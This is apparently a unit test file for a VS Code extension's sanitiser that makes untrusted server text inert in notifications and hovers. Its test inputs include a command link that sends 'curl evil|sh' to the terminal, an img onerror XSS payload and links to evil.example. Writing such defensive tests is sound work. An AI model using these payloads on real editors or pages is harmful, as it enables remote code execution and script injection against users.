import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { untrustedText } from '../../../src/core/untrustedText';

/** VS Code's link syntax in notifications and dialogs (vs/base/common/linkedText.ts). */
const notificationLink = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
/** Markdown links, HTML tags, autolinks and code fences: what a rendered tooltip or hover interprets. */
const markdownSyntax = /\]\(|<[a-z/!]|<https?:|```/i;

describe('untrustedText', () => {
  it('turns a command link from a web server reply into inert text', () => {
    const reply = 'Bad request [Show details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    const shown = untrustedText(reply);
    assert.doesNotMatch(shown, notificationLink);
    assert.doesNotMatch(shown, markdownSyntax);
    // Still readable: the words and the target are there.
    assert.match(shown, /Show details/);
    assert.match(shown, /command:workbench\.action\.terminal\.sendSequence/);
  });

  it('neutralises HTML, autolinks and code fences', () => {
    for (const text of [
      '<img src=x onerror=alert(1)>',
      '<a href="command:workbench.action.reloadWindow">reload</a>',
      '<https://evil.example>',
      '```\n[x](command:evil)\n```',
      '![image](https://evil.example/pixel.png)',
    ]) {
      const shown = untrustedText(text);
      assert.doesNotMatch(shown, markdownSyntax, text);
      assert.doesNotMatch(shown, notificationLink, text);
    }
  });

  it('drops terminal escapes, bidi overrides and zero-width characters, and keeps one line', () => {
    assert.equal(untrustedText('a\u001b[31mred\u001b[0m\u202Eb\u200Bc\r\n\tnext   line'), 'a［31mred［0mbc next line');
  });

  it('cuts long text with an ellipsis', () => {
    const shown = untrustedText('x'.repeat(1000), 50);
    assert.equal(shown.length, 50);
    assert.ok(shown.endsWith('…'));
    assert.equal(untrustedText('short', 50), 'short');
  });

  it('never leaves link, tag, fence or control syntax in any input', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 200 }), fc.string({ maxLength: 60 }), (before, label) => {
        const shown = untrustedText(`${before}[${label}](command:x)<b>${label}</b>\`\`\``);
        return !notificationLink.test(shown) && !markdownSyntax.test(shown) && !/[\u0000-\u001f\u007f]/.test(shown);
      }),
      { numRuns: 2000 },
    );
  });
});
